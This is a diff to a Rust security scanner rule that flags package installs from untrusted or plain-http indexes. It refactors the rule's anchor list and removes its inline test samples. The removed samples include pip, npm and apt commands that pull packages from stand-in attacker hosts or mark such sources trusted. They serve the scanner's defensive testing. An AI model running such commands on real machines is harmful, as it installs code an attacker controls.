@@ -6,9 +6,10 @@ use regex::bytes::Regex;
 
 use super::address::is_list;
 use crate::code::destination::{Kind, classify};
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::scan::compiled;
 use crate::text::unit::{ANYWHERE, Unit};
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "PACKAGE_INDEX",
@@ -18,7 +19,7 @@ pub(super) const RULE: Rule = Rule {
     why: "Whoever runs the index, or sits on the way to it, decides what is installed. Installing runs code.",
     fix: "use the index of the language, or one of your own with https",
     places: ANYWHERE,
-    anchors: &[
+    anchors: words![
         "index-url",
         "--registry",
         "--find-links",
@@ -33,34 +34,6 @@ pub(super) const RULE: Rule = Rule {
         "--allow-unauthenticated",
     ],
     check: Check::Unit(hits),
-    hits: &[
-        text("pip install --index-url http://packages.collect.site/simple x"),
-        text("```sh\nnpm install x --registry=http://8.8.4.4:4873\n```"),
-        file("requirements.txt", "--extra-index-url http://packages.collect.site/simple\nx==1\n"),
-        file(".npmrc", "registry=http://packages.collect.site/\n"),
-        file(
-            "requirements.txt",
-            "--extra-index-url http://192.0.2.9:8081/simple\n--trusted-host 192.0.2.9\nx==1\n",
-        ),
-        text(
-            "```sh\npip config set global.index-url http://fast.example:3141/simple\npip config set global.trusted-host fast.example\n```",
-        ),
-        text("```sh\nnpm config set registry http://packages.collect.site/\n```"),
-        text(
-            "```sh\necho 'deb [trusted=yes] http://packages.collect.site/apt ./' > /etc/apt/sources.list.d/x.list\n```",
-        ),
-    ],
-    misses: &[
-        text("pip install torch --index-url https://download.pytorch.org/whl/cpu"),
-        text("pip install --index-url https://test.pypi.org/simple x"),
-        text("```sh\nnpm install --registry http://localhost:4873\n```"),
-        text("az acr build --registry myregistry --image app:v1 ."),
-        text("npm publish --registry https://npm.pkg.github.com"),
-        text("pip install --index-url http://pypi.example.com/simple x"),
-        text("pip install x -i https://pypi.tuna.tsinghua.edu.cn/simple"),
-        text("pip config set global.index-url http://mirrors.aliyun.com/pypi/simple/"),
-        text("pip config set global.index-url http://<your-host>/simple"),
-    ],
 };
 
 fn hits(unit: &Unit<'_>) -> Vec<Hit> {
